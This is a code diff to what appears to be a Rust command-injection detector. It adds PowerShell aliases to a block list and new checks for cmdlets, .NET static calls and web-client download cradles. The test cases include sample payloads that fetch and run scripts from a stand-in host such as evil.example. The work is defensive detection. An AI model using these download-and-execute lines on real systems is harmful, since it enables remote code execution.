@@ -40,10 +40,13 @@ const COMMANDS: &[&str] = &[
     "gunzip",
     "hostname",
     "icacls",
+    "iex",
     "ifconfig",
     "ipconfig",
     "iptables",
     "irb",
+    "irm",
+    "iwr",
     "jjs",
     "jrunscript",
     "killall",
@@ -210,6 +213,9 @@ impl Commands {
         if shell_expansion(&value) {
             return Some("cmd.shell_expansion");
         }
+        if powershell(&value) {
+            return Some("cmd.powershell");
+        }
         let batch = (value.contains("for") && self.batch_for.is_match(&value))
             || (value.contains("if") && self.batch_if.is_match(&value));
         if batch {
@@ -316,6 +322,58 @@ fn markdown_code(value: &str, at: usize) -> bool {
     let prose_after =
         after.starts_with(' ') && after.trim_start().starts_with(|c: char| c.is_alphabetic());
     spaced_before && prose_after
+}
+
+/// PowerShell's approved verbs most used to run, fetch and hide things.
+const CMDLET_VERBS: &[&str] = &[
+    "add",
+    "clear",
+    "convertfrom",
+    "convertto",
+    "copy",
+    "export",
+    "get",
+    "import",
+    "invoke",
+    "new",
+    "out",
+    "remove",
+    "set",
+    "start",
+    "stop",
+    "test",
+    "write",
+];
+
+/// `Invoke-Expression`, `Get-Content`: a cmdlet is named verb-noun.
+fn cmdlet(name: &str) -> bool {
+    name.split_once('-').is_some_and(|(verb, noun)| {
+        CMDLET_VERBS.contains(&verb)
+            && noun.len() > 2
+            && noun.bytes().all(|b| b.is_ascii_lowercase())
+    })
+}
+
+/// PowerShell that needs no command position: .NET static members (`[Convert]::FromBase64String`)
+/// and the download cradle's web client.
+fn powershell(value: &str) -> bool {
+    if value.contains("net.webclient")
+        || value.contains(".downloadstring(")
+        || value.contains(".downloadfile(")
+    {
+        return true;
+    }
+    value.match_indices("]::").any(|(at, _)| {
+        let Some(open) = value[..at].rfind('[') else {
+            return false;
+        };
+        let type_name = &value[open + 1..at];
+        !type_name.is_empty()
+            && type_name
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'_')
+            && value[at + 3..].starts_with(|c: char| c.is_ascii_alphabetic())
+    })
 }
 
 /// Shell syntax no prose has: arithmetic and process substitution, parameter expansion with
@@ -521,7 +579,14 @@ fn judge(name: &str, word: &str, rest: &str, position: Position, wrapped: Option
                     .trim_start()
                     .starts_with(['/', '&', '~'])
             });
-    if alias || with_option || redirected {
+    // Cmdlet nouns are English (`Get-Content`, and `get-together`): an argument must follow.
+    let cmdlet_argument: &[char] = if position == Position::ValueStart {
+        &['-', '$']
+    } else {
+        &['-', '(', '$', '\'', '"', '[', '/']
+    };
+    let cmdlet_call = cmdlet(name) && spaced && argument.starts_with(cmdlet_argument);
+    if alias || with_option || redirected || cmdlet_call {
         return true;
     }
     match (position, wrapped) {
@@ -626,6 +691,10 @@ mod tests {
             "; echo test > /tmp/x",
             "| timeout /t 10",
             "; export x=1",
+            "; invoke-expression (new-object x).y",
+            "& iex (iwr http://evil.example/a.ps1)",
+            "[system.convert]::frombase64string('aWQ=')",
+            "(new-object net.webclient).downloadstring('http://evil.example/x')",
         ] {
             assert!(commands.check(value).is_some(), "missed {value:?}");
         }
@@ -673,6 +742,9 @@ mod tests {
             "tea; time out > coffee",
             "r&d; set goals = profit",
             "5 items; timeout (30s) applies",
+            "a; get-together at noon",
+            "get-together (friday)",
+            "see [docs]:: for details",
         ] {
             assert_eq!(commands.check(value), None, "flagged {value:?}");
         }
